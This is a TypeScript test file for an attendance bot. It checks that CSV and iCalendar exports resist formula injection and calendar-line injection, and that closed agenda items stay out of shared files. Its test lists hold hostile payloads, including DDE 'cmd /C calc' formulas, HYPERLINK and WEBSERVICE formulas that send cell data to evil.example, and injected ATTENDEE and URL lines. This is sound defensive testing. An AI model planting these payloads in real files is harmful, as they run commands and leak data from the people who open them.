/**
 * Surface: what leaves the bot as a file, CSV and iCalendar. Threat: a text of a person or a document runs as a formula in a
 * spreadsheet, or becomes an event, a property or an alarm of its own in a calendar.
 *
 * Seen failing: with the apostrophe left out of src/attendance/csv-table.ts, "expected true to be false" for 66 of the formulas; with the UID
 * unescaped in src/attendance/calendar/meeting-event.ts, 9 of the texts made lines of their own; with `item.isClosed` left out there, the
 * closed title stood in the calendar.
 */
import { describe, expect, test } from 'vitest';
import { attendanceCsv } from '../../src/attendance/attendance-csv.ts';
import { meetingIcs } from '../../src/attendance/calendar/published-calendar.ts';
import { csvTable } from '../../src/attendance/csv-table.ts';
import { aCommittee, aDecline, aMeeting, aMembership, anItem, aRecord, aResponse, aView } from '../builders.ts';
import { readCalendar } from '../calendar-reader.ts';
import { readCsv } from '../unit/attendance/read-csv.ts';

const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/"&A2)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '+4522334455',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u2060\u200d =1+1',
  '\0=1+1',
  '\u001b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1+1',
  '﹣1+1',
  '﹫SUM(1)',
  '−1+1',
  '⁼1+1',
  '₌1+1',
  '⁺1+1',
  '"=1+1',
  '"\t=1+1"',
  "'=1+1",
  ';=1+1',
  'Asta";=1+1;"',
  'Asta\n=1+1',
  'Asta\r\n"=1+1',
];

/** As a spreadsheet decides it: the first sign that is seen, in whichever width. */
function isFormula(cell: string): boolean {
  const seen = cell.replace(/^[\p{Z}\p{C}]+/u, '').normalize('NFKC');
  return /^[=+\-@\u2212]/u.test(seen) || /^[\p{Z}\p{Cf}]*\p{Cc}/u.test(cell);
}

describe('no cell of a CSV is a formula', () => {
  test.each(formulas)('%j', (text) => {
    const rows = readCsv(
      csvTable([
        [text, 'x', text],
        ['y', text, ''],
      ]),
    );
    // The table keeps its shape: nothing that was written begins a cell or a row of its own.
    expect(rows.map((cells) => cells.length)).toEqual([3, 3]);
    for (const cell of rows.flat()) expect(isFormula(cell)).toBe(false);
    // And nothing is lost: an apostrophe in front is all that may be added.
    expect(rows[0]?.[0]?.replace(/^'/, '')).toBe(text.replace(/^'/, ''));
  });

  test.each(formulas)('of the list of those who take part, wherever it was written: %j', (text) => {
    const record = aRecord({ endTime: '11:30', title: text });
    const members = [
      aMembership({ name: text }),
      aMembership({ personId: 'p2', name: `${text} 2`, role: 'substitute' }),
    ];
    const persons = [{ id: 'x', name: text, altNames: [], title: text, organization: text }];
    const responses = [
      aDecline({ personName: text, actorName: text, substitute: { name: text, standing: 'unasked' } }),
      aResponse({ personId: 'p2', personName: `${text} 2`, part: { items: [{ label: text, title: text }] } }),
    ];
    const guests = [
      {
        meetingId: 'moede-1',
        personId: 'g',
        name: text,
        items: [{ label: text, title: text }],
        invitedBy: text,
        invitedAt: '2031-01-01T00:00:00.000Z',
      },
    ];
    const view = aView(record, responses, { members, persons, attendance: { guests } });
    const rows = readCsv(attendanceCsv({ record, ...view }, 'da'));
    const [head] = rows;
    for (const cells of rows) {
      expect(cells.length).toBe(head?.length);
      for (const cell of cells) expect(isFormula(cell)).toBe(false);
    }
  });
});

const injections: readonly string[] = [
  'Møde\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x\r\nSUMMARY:Falsk',
  'Møde\nBEGIN:VEVENT\nSUMMARY:Falsk\nEND:VEVENT',
  'Møde\rATTENDEE:mailto:x@evil.example',
  'Møde\u2028BEGIN:VALARM\u2029ACTION:AUDIO',
  'Møde\u0085ORGANIZER:mailto:x@evil.example',
  'Møde\u000b\u000cURL:http://evil.example',
  'Møde\\nBEGIN:VEVENT\\nEND:VEVENT',
  'Møde\0\u0007\u001b[31m',
  'Møde;ALTREP="http://evil.example":x',
  'Møde"X-EVIL:1',
  'END:VCALENDAR',
  'a,b;c\\d:e',
  '\ud83d',
  `${'å'.repeat(200)}\r\nBEGIN:VEVENT`,
  '📄'.repeat(120),
  `${'x'.repeat(74)}\r\n BEGIN:VEVENT`,
];

describe('whatever a title, place, name or UID says, the calendar has one event', () => {
  test.each(injections)('%j', (text) => {
    const committee = aCommittee({ name: text, shortName: text });
    const meeting = aMeeting({ title: text, place: text, chair: text, icsUid: text, joinUrl: text });
    const ics = meetingIcs(
      committee,
      { meeting, items: [anItem({ title: text }), anItem({ number: text, order: 1 })] },
      new Date(0),
    );
    const calendar = readCalendar(ics);
    expect(calendar.events).toHaveLength(1);
    const lines = ics.replaceAll('\r\n ', '').split('\r\n');
    expect(lines.filter((line) => /^BEGIN:/.test(line))).toEqual(
      expect.arrayContaining(['BEGIN:VCALENDAR', 'BEGIN:VEVENT']),
    );
    expect(
      lines.filter((line) =>
        /^(?:BEGIN:(?!VCALENDAR|VEVENT|VTIMEZONE|STANDARD|DAYLIGHT)|ATTENDEE|ORGANIZER|URL|ATTACH)/.test(line),
      ),
    ).toEqual([]);
    // No line ends but by CRLF, none is longer than 75 octets (RFC 5545 §3.1), and each is well-formed by itself.
    expect(ics.replaceAll('\r\n', '')).not.toMatch(/[\r\n\u2028\u2029]|(?!\t)\p{Cc}/u);
    for (const line of Buffer.from(ics).toString('latin1').split('\r\n')) {
      expect(line.length).toBeLessThanOrEqual(75);
      expect(Buffer.from(line, 'latin1').toString('utf8')).not.toContain('\ufffd'.repeat(2));
    }
    expect(ics.isWellFormed()).toBe(true);
  });
});

test('a closed item leaves nothing in a calendar or in a list that goes to others', () => {
  const closed = anItem({ number: '2', order: 1, title: 'Opsigelse af fyrmesteren', isClosed: true });
  const below = anItem({ number: '2.1', order: 2, title: 'Fyrmesterens bolig' });
  const record = { meeting: aMeeting({ endTime: '11:00' }), items: [anItem(), closed, below] };
  const ics = meetingIcs(aCommittee(), record, new Date(0));
  const part = { items: [{ label: '2', title: closed.title }] };
  const view = aView(record, [aResponse({ part })], { members: [aMembership()] });
  for (const text of [ics, attendanceCsv({ record, ...view }, 'da')])
    expect(text.replaceAll('\r\n ', '')).not.toMatch(/fyrmester/i);
});
